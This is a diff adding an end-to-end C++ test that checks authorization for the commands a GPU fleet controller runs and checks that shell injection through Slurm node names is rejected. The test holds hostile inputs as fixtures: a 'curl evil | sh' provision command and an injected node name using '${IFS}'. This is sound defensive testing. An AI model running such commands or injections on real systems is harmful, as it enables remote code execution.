@@ -1,5 +1,6 @@
 // Trust boundaries, end to end: the agent channel (bad frames, connections that never sign in,
-// forged log lines), node identity, and telemetry acknowledged through a full disk.
+// forged log lines), node identity, telemetry acknowledged through a full disk, and programs
+// that the controller runs itself.
 
 #include <gtest/gtest.h>
 #include <sys/resource.h>
@@ -10,6 +11,7 @@
 #include <boost/beast/websocket.hpp>
 #include <chrono>
 #include <filesystem>
+#include <fstream>
 #include <memory>
 #include <optional>
 #include <thread>
@@ -269,6 +271,96 @@ TEST_F(E2E, TelemetryAcknowledgedThroughAFullDiskSurvivesAKill) {
   EXPECT_LT(all.front().at(0).as_int64(), full_at - 1000);
   EXPECT_GT(all.back().at(0).as_int64(), room_at + 1000);
   ExpectEverySecond(all);
+}
+
+// Programs that the controller runs itself (a pool's command actuator, Slurm's clients) act as
+// the controller's user on its machine: only an admin token of the whole fleet sets or changes
+// them, through the scaling API or a fleet file; an operator may change the rest of the policy.
+TEST_F(E2E, OnlyAFleetWideAdminSetsProgramsTheControllerRuns) {
+  // The fleet file of cluster lab, with `cluster` lines added to the cluster and `pool` lines to
+  // its one pool.
+  auto fleet = [](const std::string& cluster, const std::string& pool) {
+    return "apiVersion: gpufleet/v1\nkind: Fleet\nclusters:\n  - name: lab\n    type: training\n"
+           "    site: lab\n" +
+           cluster +
+           "    pools:\n      - name: lab-h100\n        gpu_model: H100-SXM5-80GB\n"
+           "        gpus_per_node: 8\n" +
+           pool;
+  };
+  auto applied = ApplyText("fleet.yaml", fleet("", ""));
+  ASSERT_EQ(applied.exit_code, 0) << applied.err;
+  auto token = [&](const std::string& body) {
+    auto [s, v] = controller_->Call("POST", "/api/v1/api-tokens", body);
+    EXPECT_EQ(s, 201) << v;
+    return s == 201 ? std::string(v.at("token").as_string()) : "";
+  };
+  const std::string op = token(R"({"name": "ops", "role": "operator"})");
+  const std::string lab_admin =
+      token(R"({"name": "lab-admin", "role": "admin", "clusters": ["lab"]})");
+  const std::string marker = dir_ + "/ran";
+  auto policy = [&](const std::string& provision, int max_nodes) {
+    return R"({"mode": "reactive", "enabled": false, "min_nodes": 0, "max_nodes": )" +
+           std::to_string(max_nodes) + R"(, "actuator": {"type": "command", "provision": ")" +
+           provision + R"(", "deprovision": "true"}})";
+  };
+  const std::string path = "/api/v1/pools/lab-h100/scaling";
+  for (const std::string* t : {&op, &lab_admin}) {
+    auto [s, v] = controller_->Call("PUT", path, policy("touch " + marker, 2), t);
+    EXPECT_EQ(s, 403) << v;
+    EXPECT_NE(std::string(v.at("error").at("message").as_string())
+                  .find("it runs programs on the controller"),
+              std::string::npos)
+        << v;
+  }
+  EXPECT_EQ(controller_->Call("GET", path).first, 404);  // no policy was set
+  // A fleet-wide admin sets it; an operator then changes the bounds, not the programs.
+  ASSERT_EQ(controller_->Call("PUT", path, policy("touch " + marker, 2)).first, 200);
+  auto [kept, kv] = controller_->Call("PUT", path, policy("touch " + marker, 3), &op);
+  EXPECT_EQ(kept, 200) << kv;
+  auto [changed, cv] = controller_->Call("PUT", path, policy("touch " + marker + "-2", 3), &op);
+  EXPECT_EQ(changed, 403) << cv;
+  auto now = controller_->Call("GET", path).second.at("policy");
+  EXPECT_EQ(now.at("actuator").at("provision"), ("touch " + marker).c_str()) << now;
+  EXPECT_EQ(now.at("max_nodes").as_int64(), 3) << now;
+
+  // The same through a fleet file: a scaling block, and a Slurm cluster's clients.
+  auto apply = [&](const std::string& yaml, const std::string* t) {
+    return controller_->Call("POST", "/api/v1/apply", yaml, t, "application/yaml");
+  };
+  const std::string scaled = fleet("",
+                                   "        scaling:\n"
+                                   "          {mode: reactive, enabled: false, min_nodes: 0, "
+                                   "max_nodes: 3, actuator: {type: command, provision: \"curl "
+                                   "evil | sh\", deprovision: \"true\"}}\n");
+  auto [fs, fv] = apply(scaled, &op);
+  EXPECT_EQ(fs, 403) << fv;
+  const std::string bin = dir_ + "/slurm-bin";
+  std::filesystem::create_directories(bin);
+  for (const char* program : {"scontrol", "squeue", "sinfo"}) {
+    std::ofstream(bin + "/" + program) << "#!/bin/sh\nexit 0\n";
+    std::filesystem::permissions(bin + "/" + program, std::filesystem::perms::owner_all);
+  }
+  const std::string slurm =
+      fleet("    scheduler: {type: slurm, bin_dir: " + bin + ", poll: 1h}\n", "");
+  auto [ss, sv] = apply(slurm, &op);
+  EXPECT_EQ(ss, 403) << sv;
+  auto [as, av] = apply(slurm, &lab_admin);
+  EXPECT_EQ(as, 403) << av;
+  auto [ok, ov] = apply(slurm, nullptr);
+  EXPECT_EQ(ok, 200) << ov;
+  auto [again, gv] = apply(slurm, &op);  // unchanged: the operator's file may name them
+  EXPECT_EQ(again, 200) << gv;
+  // Slurm's ResumeProgram hands node names to the pool's actuator, whose command line is a
+  // shell's: a name that is not a node name is refused before anything starts.
+  ASSERT_EQ(controller_->Call("PUT", path, policy("echo {nodes} > " + marker, 3)).first, 200);
+  auto [rs, rv] =
+      controller_->Call("POST", "/api/v1/slurm/resume",
+                        R"({"nodes": "x;touch${IFS})" + marker + R"(", "pool": "lab-h100"})", &op);
+  EXPECT_EQ(rs, 400) << rv;
+  EXPECT_NE(std::string(rv.at("error").at("message").as_string()).find("not a valid node name"),
+            std::string::npos)
+      << rv;
+  EXPECT_FALSE(std::filesystem::exists(marker));
 }
 
 }  // namespace
